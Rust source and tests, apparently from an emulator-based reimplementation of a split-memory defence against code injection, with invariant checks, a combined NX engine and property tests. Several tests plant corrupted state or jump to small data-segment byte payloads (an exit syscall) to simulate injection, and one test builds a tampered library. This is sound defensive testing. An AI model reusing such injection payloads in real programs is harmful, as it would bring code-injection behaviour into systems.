    fn incoherent_decode_cache_entry_is_caught() {
        let mut k = split_kernel();
        let prog = ProgramBuilder::new("/bin/c")
            .code("_start: mov ebx, 0\n call exit")
            .build()
            .unwrap();
        k.spawn(&prog.image).unwrap();
        k.run(10_000_000);
        assert!(check(&k).is_empty());
        // Plant a cached decode that contradicts the frame's bytes at the
        // frame's *current* generation — the exact state a missing
        // version bump would produce.
        let bogus = sm_machine::decode_cache::CachedDecode {
            decoded: sm_machine::isa::Decoded::Invalid { opcode: 0xC3 },
            len: 1,
        };
        let version = k.sys.machine.phys.frame_version(3);
        k.sys.machine.decode_cache.insert(3, 0, version, bogus);
        assert!(check(&k)
            .iter()
            .any(|v| matches!(v, Violation::DecodeCacheIncoherent { pfn: 3, offset: 0 })));
    }

    #[test]
    fn incoherent_superblock_op_is_caught() {
        let mut k = split_kernel();
        let prog = ProgramBuilder::new("/bin/sb")
            .code("_start: mov ebx, 0\n call exit")
            .build()
            .unwrap();
        k.spawn(&prog.image).unwrap();
        k.run(10_000_000);
        assert!(check(&k).is_empty());
        // Plant a cached superblock whose op contradicts the frame's
        // bytes at the frame's *current* generation — the exact state a
        // missing version bump would produce.
        let bogus = sm_machine::decode_cache::CachedDecode {
            decoded: sm_machine::isa::Decoded::Invalid { opcode: 0xC3 },
            len: 1,
        };
        let version = k.sys.machine.phys.frame_version(3);
        k.sys.machine.superblocks.insert(3, 0, version, vec![bogus]);
        assert!(check(&k)
            .iter()
            .any(|v| matches!(v, Violation::SuperblockIncoherent { pfn: 3, offset: 0 })));
    }

    #[test]
    fn refcount_skew_is_caught() {
        let mut k = split_kernel();
        let prog = demo_program("/bin/rc");
        k.spawn(&prog.image).unwrap();
        assert!(check(&k).is_empty());
        let (pfn, _) = k.sys.frames.iter().next().expect("a tracked frame");
        // Bump the machine-side refcount behind the kernel's back.
        k.sys.machine.phys.allocator.retain(pte::Frame(pfn));
        assert!(check(&k)
            .iter()
            .any(|v| matches!(v, Violation::RefcountSkew { .. })));
    }

    #[test]
    fn split_nx_conflict_is_caught() {
        let mut k = split_kernel();
        let prog = demo_program("/bin/nxc");
        let pid = k.spawn(&prog.image).unwrap();
        let vpn = {
            let engine = k
                .engine
                .as_any()
                .downcast_ref::<SplitMemEngine>()
                .expect("split engine");
            engine
                .table(pid)
                .expect("table")
                .iter()
                .next()
                .expect("a split page")
                .0
        };
        let base = vpn << pte::PAGE_SHIFT;
        let entry = k.sys.pte_of(pid, base);
        k.sys.set_pte(pid, base, entry | pte::NX);
        assert!(check(&k)
            .iter()
            .any(|v| matches!(v, Violation::SplitNxConflict { .. })));
    }

    #[test]
    fn split_bit_orphan_is_caught() {
        // MixedOnly policy: the (non-mixed) stack page is present but not
        // split, so planting a SPLIT bit on it has no backing table entry.
        let mut k = Kernel::with_engine(Box::new(SplitMemEngine::new(SplitMemConfig {
            policy: SplitPolicy::MixedOnly,
            ..SplitMemConfig::default()
        })));
        let prog = demo_program("/bin/orph");
        let pid = k.spawn(&prog.image).unwrap();
        assert!(check(&k).is_empty());
        let top = k.sys.proc(pid).aspace.stack_high - sm_machine::pte::PAGE_SIZE;
        let entry = k.sys.pte_of(pid, top);
        assert!(pte::has(entry, pte::PRESENT) && !pte::has(entry, pte::SPLIT));
        k.sys.set_pte(pid, top, entry | pte::SPLIT);
        assert!(check(&k)
            .iter()
            .any(|v| matches!(v, Violation::SplitBitOrphan { .. })));
    }

    #[test]
    fn nx_on_executable_page_is_caught() {
        let mut k = split_kernel();
        let prog = demo_program("/bin/nxx");
        let pid = k.spawn(&prog.image).unwrap();
        let code_base = {
            let p = k.sys.proc(pid);
            let vma = p
                .aspace
                .vmas
                .iter()
                .find(|v| v.executable())
                .expect("code vma");
            pte::page_base(vma.start)
        };
        let entry = k.sys.pte_of(pid, code_base);
        k.sys.set_pte(pid, code_base, entry | pte::NX);
        assert!(check(&k)
            .iter()
            .any(|v| matches!(v, Violation::NxMarkedExecutable { .. })));
    }

    #[test]
    fn cross_process_itlb_leak_is_caught() {
        let mut k = split_kernel();
        let a = k.spawn(&demo_program("/bin/a").image).unwrap();
        let b = k.spawn(&demo_program("/bin/b").image).unwrap();
        k.sys.current = Some(a);
        assert!(check(&k).is_empty());
        let leaked = {
            let engine = k
                .engine
                .as_any()
                .downcast_ref::<SplitMemEngine>()
                .expect("split engine");
            engine
                .table(b)
                .expect("table")
                .iter()
                .next()
                .expect("a split page")
                .1
                .data
        };
        // Plant an I-TLB entry giving process A a fetch path into B's
        // data frame at a page A does not map itself.
        k.sys.machine.itlb.fill(TlbEntry {
            vpn: 0x300,
            pfn: leaked.0,
            asid: 0,
            user: true,
            writable: false,
            nx: false,
        });
        let violations = check(&k);
        assert!(
            violations.iter().any(|v| matches!(
                v,
                Violation::ItlbCrossProcessLeak { pid, other, .. } if *pid == a && *other == b
            )),
            "violations: {violations:?}"
        );
    }

    #[test]
    fn tampered_filler_is_caught() {
        let mut k = split_kernel();
        let prog = ProgramBuilder::new("/bin/t")
            .code("_start: mov ebx, 0\n call exit")
            .data("v: .word 7")
            .build()
            .unwrap();
        let pid = k.spawn(&prog.image).unwrap();
        // Corrupt a filler code frame behind the engine's back.
        let engine = k
            .engine
            .as_any()
            .downcast_ref::<SplitMemEngine>()
            .expect("split engine");
        let (_, sp) = engine
            .table(pid)
            .expect("table")
            .iter()
            .find(|(_, sp)| sp.filler && sp.code.is_some())
            .expect("a filler page");
        let frame = sp.code.expect("code half");
        k.sys.machine.phys.write_u8(frame.base() + 5, 0x90);
        let violations = check(&k);
        assert!(
            violations.iter().any(|v| matches!(
                v,
                Violation::FillerTampered {
                    offset: 5,
                    byte: 0x90,
                    ..
                }
            )),
            "violations: {violations:?}"
        );
    }
}
