//! Combined mode: execute-disable bit for clean pages, split memory for
//! the pages NX cannot protect.
//!
//! "In systems where the execute-disable bit is available, our technique
//! can be used to complement it by extending protection to mixed code and
//! data pages. ... chances are high that only a few of the process' pages
//! are mixed and need to be protected using our technique. This should
//! result in a very low performance overhead." (paper §4.2.1). The Fig. 9
//! sweep uses [`CombinedEngine::with_fraction`] to split a configurable
//! random fraction of pages while NX covers the rest.

use crate::engine::{SplitMemConfig, SplitMemEngine};
use crate::nx::NxEngine;
use crate::split::SplitPolicy;
use sm_kernel::engine::{FaultOutcome, ProtectionEngine, UdOutcome};
use sm_kernel::events::ResponseMode;
use sm_kernel::image::ExecImage;
use sm_kernel::kernel::System;
use sm_kernel::process::Pid;
use sm_machine::cpu::PageFaultInfo;
use sm_machine::pte::Frame;

/// Split memory for mixed (or a chosen fraction of) pages + NX for the
/// rest.
#[derive(Debug)]
pub struct CombinedEngine {
    /// The split-memory half (owns the split tables and response modes).
    pub split: SplitMemEngine,
    /// The execute-disable half.
    pub nx: NxEngine,
}

impl CombinedEngine {
    /// Standard combined mode: split only mixed pages.
    pub fn new(response: ResponseMode) -> CombinedEngine {
        CombinedEngine::with_config(SplitMemConfig {
            policy: SplitPolicy::MixedOnly,
            response,
            ..SplitMemConfig::default()
        })
    }

    /// Fig.-9 configuration: split `fraction` of all pages (chosen at
    /// random, plus every mixed page); NX covers the remainder.
    pub fn with_fraction(fraction: f64, response: ResponseMode) -> CombinedEngine {
        CombinedEngine::with_config(SplitMemConfig {
            policy: SplitPolicy::Fraction(fraction),
            response,
            ..SplitMemConfig::default()
        })
    }

    /// Full control over the split half's configuration.
    pub fn with_config(config: SplitMemConfig) -> CombinedEngine {
        CombinedEngine {
            split: SplitMemEngine::new(config),
            nx: NxEngine::new(),
        }
    }

    fn nx_mark(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        let table = self.split.table(pid).cloned();
        self.nx.mark_range(sys, pid, start, end, |vpn| {
            table.as_ref().is_some_and(|t| t.get(vpn).is_some())
        });
    }
}

impl ProtectionEngine for CombinedEngine {
    fn name(&self) -> &'static str {
        "split-memory+execute-disable"
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn on_region_mapped(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        self.split.on_region_mapped(sys, pid, start, end);
        self.nx_mark(sys, pid, start, end);
    }

    fn on_page_mapped(&mut self, sys: &mut System, pid: Pid, vaddr: u32) {
        self.split.on_page_mapped(sys, pid, vaddr);
        self.nx_mark(sys, pid, vaddr, vaddr + 1);
    }

    fn on_protection_fault(
        &mut self,
        sys: &mut System,
        pid: Pid,
        pf: PageFaultInfo,
    ) -> FaultOutcome {
        match self.split.on_protection_fault(sys, pid, pf) {
            FaultOutcome::Handled => FaultOutcome::Handled,
            FaultOutcome::Unhandled => self.nx.detect(sys, pid, pf),
        }
    }

    fn on_debug_trap(&mut self, sys: &mut System, pid: Pid) -> bool {
        self.split.on_debug_trap(sys, pid)
    }

    fn on_invalid_opcode(&mut self, sys: &mut System, pid: Pid, eip: u32, opcode: u8) -> UdOutcome {
        self.split.on_invalid_opcode(sys, pid, eip, opcode)
    }

    fn on_cow_copied(&mut self, sys: &mut System, pid: Pid, vaddr: u32, new_frame: Frame) {
        self.split.on_cow_copied(sys, pid, vaddr, new_frame);
    }

    fn on_fork(&mut self, sys: &mut System, parent: Pid, child: Pid) {
        self.split.on_fork(sys, parent, child);
    }

    fn on_unmap(&mut self, sys: &mut System, pid: Pid, start: u32, end: u32) {
        self.split.on_unmap(sys, pid, start, end);
    }

    fn on_teardown(&mut self, sys: &mut System, pid: Pid) {
        self.split.on_teardown(sys, pid);
    }

    fn verify_library(
        &mut self,
        sys: &mut System,
        pid: Pid,
        image: &ExecImage,
    ) -> Result<(), String> {
        self.split.verify_library(sys, pid, image)
    }

    fn write_user_code(
        &mut self,
        sys: &mut System,
        pid: Pid,
        vaddr: u32,
        bytes: &[u8],
    ) -> Result<(), PageFaultInfo> {
        // Split half mirrors onto code frames; NX half exempts the
        // trampoline pages that are not split.
        self.split.write_user_code(sys, pid, vaddr, bytes)?;
        self.nx.exempt_trampoline(sys, pid, vaddr, bytes.len());
        Ok(())
    }

    fn snapshot_state(&self) -> Vec<u8> {
        let mut w = sm_machine::snapshot::Writer::new();
        w.bytes(&self.split.snapshot_state());
        w.bytes(&self.nx.snapshot_state());
        w.into_bytes()
    }

    fn restore_state(&mut self, bytes: &[u8]) -> Result<(), String> {
        let s = |e: sm_machine::snapshot::SnapshotError| e.to_string();
        let mut r = sm_machine::snapshot::Reader::new(bytes);
        let split = r.bytes().map_err(s)?;
        let nx = r.bytes().map_err(s)?;
        if !r.is_done() {
            return Err("trailing bytes in combined engine state".into());
        }
        self.split.restore_state(&split)?;
        self.nx.restore_state(&nx)
    }
}
