//! Split-memory engine integration and property tests: TLB
//! desynchronisation observed directly, frame accounting under random
//! operation sequences, runtime library verification, and per-seed
//! determinism of the fraction policy.

use proptest::prelude::*;
use sm_core::engine::{SplitMemConfig, SplitMemEngine};
use sm_core::split::SplitPolicy;
use sm_core::verify::Verifier;
use sm_kernel::events::{Event, ResponseMode};
use sm_kernel::kernel::{Kernel, KernelConfig, RunExit};
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};
use sm_machine::pte;

fn split_kernel(cfg: SplitMemConfig) -> Kernel {
    Kernel::with_engine(Box::new(SplitMemEngine::new(cfg)))
}

/// Observe the desynchronised TLBs directly: after a guest both executes
/// and reads the same (mixed) page, the I-TLB and D-TLB hold different
/// frames for one virtual page.
#[test]
fn itlb_and_dtlb_disagree_on_a_split_page() {
    let prog = ProgramBuilder::new("/bin/mixeduse")
        .mixed_segment()
        .code(
            "_start:
                mov eax, [value]      ; data access on the code page
            spin:
                jmp spin              ; stay alive for inspection
            value: .word 0",
        )
        .build()
        .unwrap();
    let mut k = split_kernel(SplitMemConfig::default());
    let pid = k.spawn(&prog.image).unwrap();
    let code_vpn = pte::vpn(prog.image.entry);
    // Run a slice: both access kinds happen, the process stays alive.
    k.run(120_000);
    let i = k.sys.machine.itlb.peek(code_vpn);
    let d = k.sys.machine.dtlb.peek(code_vpn);
    if let (Some(i), Some(d)) = (i, d) {
        assert_ne!(
            i.pfn, d.pfn,
            "I-TLB and D-TLB must route the same vpn to different frames"
        );
    } else {
        // Timing may have flushed one of them; the engine bookkeeping
        // still proves the split.
        let engine = k.engine.as_any().downcast_ref::<SplitMemEngine>().unwrap();
        let sp = engine.table(pid).and_then(|t| t.get(code_vpn)).unwrap();
        assert_ne!(sp.code.unwrap(), sp.data);
    }
}

#[test]
fn data_reload_leaves_pte_restricted_but_tlb_permissive() {
    let prog = ProgramBuilder::new("/bin/reader")
        .code(
            "_start:
                mov eax, [v]
                mov ecx, [v]
            spin:
                jmp spin              ; stay alive for inspection
                mov ebx, 0
                call exit",
        )
        .data("v: .word 9")
        .build()
        .unwrap();
    let mut k = split_kernel(SplitMemConfig::default());
    let pid = k.spawn(&prog.image).unwrap();
    let v_page = pte::page_base(prog.sym("v"));
    assert_eq!(k.run(200_000), RunExit::CyclesExhausted);
    let entry = k.sys.pte_of(pid, v_page);
    assert!(
        !pte::has(entry, pte::USER),
        "PTE stays supervisor-restricted at rest"
    );
    assert!(pte::has(entry, pte::SPLIT));
    let engine = k.engine.as_any().downcast_ref::<SplitMemEngine>().unwrap();
    assert!(engine.stats.data_reloads >= 1);
    assert_eq!(
        engine.stats.detections, 0,
        "benign run must not trip detection"
    );
}

#[test]
fn runtime_dlopen_respects_the_verifier() {
    let verifier = Verifier::new(b"k".to_vec());
    let mut lib = ProgramBuilder::new("/lib/ok.so")
        .without_stdlib()
        .code("f: ret")
        .build()
        .unwrap()
        .image;
    lib.segments[0].vaddr = 0x3900_0000;
    verifier.sign(&mut lib);
    let mut evil = lib.clone();
    evil.segments[0].data[0] ^= 0xFF;

    let prog = ProgramBuilder::new("/bin/dl2")
        .code(
            "_start:
                mov eax, SYS_DLOPEN
                mov ebx, okpath
                int 0x80
                cmp eax, 0
                jle bad
                mov eax, SYS_DLOPEN
                mov ebx, evilpath
                int 0x80
                cmp eax, -13          ; EACCES
                jne bad
                mov ebx, 0
                call exit
            bad:
                mov ebx, 1
                call exit",
        )
        .data(
            "okpath: .asciz \"/lib/ok.so\"
             evilpath: .asciz \"/lib/evil.so\"",
        )
        .build()
        .unwrap();
    let mut k = split_kernel(SplitMemConfig {
        verifier: Some(verifier),
        ..SplitMemConfig::default()
    });
    k.sys.fs.install("/lib/ok.so", lib.to_bytes());
    k.sys.fs.install("/lib/evil.so", evil.to_bytes());
    let pid = k.spawn(&prog.image).unwrap();
    assert_eq!(k.run(50_000_000), RunExit::AllExited);
    assert_eq!(k.sys.proc(pid).exit_code, Some(0));
    let rejected = k.sys.events.iter().any(|e| {
        matches!(
            e,
            Event::Library {
                verified: false,
                ..
            }
        )
    });
    assert!(rejected, "the tampered library must be logged as rejected");
}

#[test]
fn observe_mode_sets_the_honeypot_flag() {
    let prog = ProgramBuilder::new("/bin/victim")
        .code(
            "_start:
                mov eax, payload
                jmp eax",
        )
        .data("payload: .byte 0xbb, 0x07, 0, 0, 0, 0xb8, 1, 0, 0, 0, 0xcd, 0x80")
        .build()
        .unwrap();
    let mut k = split_kernel(SplitMemConfig {
        response: ResponseMode::Observe,
        honeypot_on_detect: true,
        ..SplitMemConfig::default()
    });
    let pid = k.spawn(&prog.image).unwrap();
    k.run(20_000_000);
    assert_eq!(k.sys.proc(pid).exit_code, Some(7), "attack proceeds");
    assert!(k.sys.proc(pid).honeypot_log, "Sebek logging switched on");
}

#[test]
fn fraction_policy_is_deterministic_per_seed() {
    let count_split = |seed: u64| {
        let engine = SplitMemEngine::new(SplitMemConfig {
            policy: SplitPolicy::Fraction(0.5),
            ..SplitMemConfig::default()
        });
        let mut k = Kernel::new(
            sm_machine::MachineConfig::default(),
            KernelConfig {
                seed,
                ..KernelConfig::default()
            },
            Box::new(engine),
        );
        let prog = ProgramBuilder::new("/bin/wide")
            .code("_start: mov ebx, 0\n call exit")
            .data(&".space 4096\n".repeat(8))
            .build()
            .unwrap();
        let pid = k.spawn(&prog.image).unwrap();
        let e = k.engine.as_any().downcast_ref::<SplitMemEngine>().unwrap();
        e.table(pid).map_or(0, |t| t.len())
    };
    assert_eq!(count_split(7), count_split(7), "same seed, same draw");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// Frame accounting balances for random mixes of: policy, response
    /// mode, lazy code frames, and guest behaviour (benign exit vs
    /// attempted injection).
    #[test]
    fn frame_accounting_balances(
        lazy in any::<bool>(),
        observe in any::<bool>(),
        attack in any::<bool>(),
        fraction in proptest::option::of(0.0f64..1.0),
        seed in 0u64..1000,
    ) {
        let cfg = SplitMemConfig {
            policy: fraction.map_or(SplitPolicy::All, SplitPolicy::Fraction),
            response: if observe { ResponseMode::Observe } else { ResponseMode::Break },
            lazy_code_frames: lazy,
            ..SplitMemConfig::default()
        };
        let mut k = Kernel::new(
            sm_machine::MachineConfig::default(),
            KernelConfig { seed, ..KernelConfig::default() },
            Box::new(SplitMemEngine::new(cfg)),
        );
        let prog: BuiltProgram = if attack {
            ProgramBuilder::new("/bin/a")
                .code("_start:\n mov eax, payload\n jmp eax")
                .data("payload: .byte 0xbb, 0x2a, 0, 0, 0, 0xb8, 1, 0, 0, 0, 0xcd, 0x80")
                .build()
                .unwrap()
        } else {
            ProgramBuilder::new("/bin/b")
                .code(
                    "_start:
                        mov eax, 64
                        call malloc
                        mov dword [eax], 5
                        mov ebx, 0
                        call exit",
                )
                .build()
                .unwrap()
        };
        let free0 = k.sys.machine.phys.allocator.free_count();
        let pid = k.spawn(&prog.image).unwrap();
        k.run(50_000_000);
        k.sys.procs.remove(&pid.0);
        prop_assert_eq!(
            k.sys.machine.phys.allocator.free_count(),
            free0,
            "frames leaked (lazy={}, observe={}, attack={}, fraction={:?})",
            lazy, observe, attack, fraction
        );
    }

    /// Under SplitPolicy::All with break mode, a direct jump to any data
    /// address is never executable, wherever the payload sits in the data
    /// segment.
    #[test]
    fn any_data_offset_is_unfetchable(pad in 0usize..512) {
        let prog = ProgramBuilder::new("/bin/off")
            .code("_start:\n mov eax, payload\n jmp eax")
            .data(&format!(
                ".space {pad}\npayload: .byte 0xbb, 0x2a, 0x00, 0x00, 0x00, 0xb8, 0x01, 0x00, 0x00, 0x00, 0xcd, 0x80"
            ))
            .build()
            .unwrap();
        let mut k = split_kernel(SplitMemConfig::default());
        let pid = k.spawn(&prog.image).unwrap();
        k.run(20_000_000);
        prop_assert_ne!(k.sys.proc(pid).exit_code, Some(42));
    }
}
